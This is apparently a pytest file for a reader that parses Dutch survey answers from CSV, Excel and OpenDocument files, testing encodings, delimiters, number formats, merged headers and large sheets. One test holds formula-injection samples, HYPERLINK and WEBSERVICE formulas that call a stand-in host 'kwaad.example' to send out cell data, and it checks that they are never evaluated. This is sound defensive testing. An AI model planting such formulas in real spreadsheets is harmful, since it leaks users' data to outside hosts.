"""Answers from Excel, OpenDocument and CSV, made as other programs make them."""

import io
import re
from datetime import date, datetime
from typing import Any

import pytest
import xlsxwriter

from storage.table_files import TableRefused, read_table
from storage.table_limits import (
    NO_SUCH_SHEET,
)
from tests.storage.table_samples import excel, ods_cell, open_document, repacked, workbook

HEADER = ("Tijdstempel", "Voel je je thuis?", "Wat wil je kwijt?")
ANSWERS = ("2026-03-02 13:45:00", "Helemaal mee eens", "Fijn, zó'n café\nop de hoek; mooi")


@pytest.mark.parametrize(
    "delimiter", [";", ",", "\t", "|"], ids=["semicolon", "comma", "tab", "bar"]
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1252", "utf-16", "utf-16-le"])
def test_a_csv_is_read_in_any_encoding_with_any_delimiter(encoding: str, delimiter: str) -> None:
    quoted = [[f'"{cell}"' for cell in row] for row in (HEADER, ANSWERS)]
    content = "\r\n".join(delimiter.join(row) for row in quoted).encode(encoding)
    table = read_table(content, "antwoorden.csv")
    assert table.header == HEADER
    assert table.rows == (ANSWERS,)
    assert table.row_numbers == (2,)


def test_excel_cells_become_the_texts_a_dutch_reader_types() -> None:
    moment = datetime(2026, 3, 2, 13, 45)  # noqa: DTZ001 - Excel knows no time zones
    cells = (5, 2.5, 0.1 + 0.2, 1e20, True, moment, date(2026, 3, 2), " ja ")
    content = excel(tuple(f"K{n}" for n in range(len(cells))), cells)
    assert read_table(content, "a.xlsx").rows[0] == (
        *("5", "2,5", "0,3", "100000000000000000000", "ja"),
        *("2026-03-02 13:45:00", "2026-03-02", "ja"),
    )


def test_an_open_document_is_read() -> None:
    rows = "".join(
        f"<table:table-row>{ods_cell(a)}{ods_cell(b)}</table:table-row>"
        for a, b in (("Vraag", "Cijfer"), ("ja", "8"))
    )
    rest = '<table:table-row table:number-rows-repeated="1048574"><table:table-cell '
    rest += 'table:number-columns-repeated="16384"/></table:table-row>'
    table = read_table(open_document(rows + rest), "a.ods")
    assert (table.header, table.rows) == (("Vraag", "Cijfer"), (("ja", "8"),))


def test_the_first_sheet_with_something_in_it_is_taken_unless_one_is_named() -> None:
    def fill(sheet: Any) -> None:
        sheet.write_row(0, 0, ("Vraag", "Cijfer"))
        sheet.write_row(1, 0, ("ja", 8))

    content = workbook(fill, "Antwoorden", "Leeg")
    table = read_table(content, "a.xlsx")
    assert (table.sheet, table.sheet_names) == ("Antwoorden", ("Antwoorden", "Leeg"))
    assert read_table(content, "a.xlsx", sheet="Antwoorden") == table
    with pytest.raises(TableRefused, match=NO_SUCH_SHEET):
        read_table(content, "a.xlsx", sheet="Anders")


def test_a_title_and_empty_rows_above_the_header_are_passed_over() -> None:
    content = excel(("Enquête van de buurt",), (), ("A", "B", "C"), (), ("1", "2", "3"))
    table = read_table(content, "a.xlsx")
    assert (table.header, table.rows, table.row_numbers) == (
        ("A", "B", "C"),
        (("1", "2", "3"),),
        (5,),
    )


def test_merged_cells_above_the_header_name_what_is_double_or_empty() -> None:
    def fill(sheet: Any) -> None:
        sheet.merge_range(0, 1, 0, 2, "Waarbij helpen buren?")
        sheet.merge_range(0, 3, 0, 4, "Waarbij help jij?")
        sheet.write_row(1, 0, ("Datum", "Klusjes", "Eten", "Klusjes", "Praten"))
        sheet.write_row(2, 0, ("2026-03-02", 1, 0, 1, 0))

    assert read_table(workbook(fill), "a.xlsx").header == (
        *("Datum", "Waarbij helpen buren? / Klusjes", "Eten"),
        *("Waarbij help jij? / Klusjes", "Praten"),
    )


def test_excels_own_line_that_names_the_delimiter_is_no_row() -> None:
    assert read_table(b"sep=;\r\na,x;b\r\n1;2\r\n", "a.csv").header == ("a,x", "b")


def test_what_a_file_is_follows_from_its_bytes() -> None:
    assert read_table(excel(("A", "B"), (1, 2)), "a.csv").rows == (("1", "2"),)
    assert read_table(b"A;B\n1;2\n", "a.xlsx").rows == (("1", "2"),)


def test_a_file_with_one_column_is_a_table_too() -> None:
    assert read_table(b"Wat wil je kwijt?\nmooi\nfijn\n", "a.csv").rows == (("mooi",), ("fijn",))


def test_rows_of_odd_lengths_are_kept_as_they_are() -> None:
    table = read_table(b"A;B\n1\n1;2;3;4\n;;\n", "a.csv")
    assert table.header == ("A", "B", "", "")
    assert table.rows == (("1",), ("1", "2", "3", "4"))
    assert table.column(3) == ["", "4"]


def test_a_formula_is_never_worked_out() -> None:
    attack = '=HYPERLINK("http://kwaad.example?"&A1)'
    text = read_table(f'A;B\n1;"{attack.replace(chr(34), chr(34) * 2)}"\n'.encode(), "a.csv")
    assert text.rows == (("1", attack),)

    def fill(sheet: Any) -> None:
        sheet.write_row(0, 0, ("A", "B"))
        sheet.write_formula(1, 0, '=WEBSERVICE("http://kwaad.example")', None, "laatste waarde")
        sheet.write_string(1, 1, "=1+1")

    assert read_table(workbook(fill), "a.xlsx").rows == (("laatste waarde", "=1+1"),)


def rows_of_one_hundred_thousand(sheet: bytes) -> bytes:
    """The second row of a sheet, as often as that: writing them one by one takes long."""
    before, found = sheet.split(b'<row r="2"', 1)
    row, after = found.split(b"</row>", 1)
    again = re.sub(rb'(r="[A-Z]*)2"', rb'\g<1>%d"', b'<row r="2"' + row + b"</row>")
    rows = b"".join(again % ((place,) * 8) for place in range(2, 100_002))
    return before.replace(b"A1:H2", b"A1:H100001") + rows + after


def test_a_hundred_thousand_rows_take_seconds() -> None:
    target = io.BytesIO()
    book = xlsxwriter.Workbook(target, {"constant_memory": True})
    sheet = book.add_worksheet()
    sheet.write_row(0, 0, [f"Vraag {n}" for n in range(8)])
    sheet.write_row(1, 0, ("Helemaal mee eens", 5, "ja", 2.5, "", "nee", 7, "tekst"))
    book.close()
    made = repacked(target.getvalue(), {"xl/worksheets/sheet1.xml": rows_of_one_hundred_thousand})
    table = read_table(made, "a.xlsx")
    assert len(table.rows) == 100_000
    assert table.row_numbers[-1] == 100_001
    assert table.rows[-1] == ("Helemaal mee eens", "5", "ja", "2,5", "", "nee", "7", "tekst")
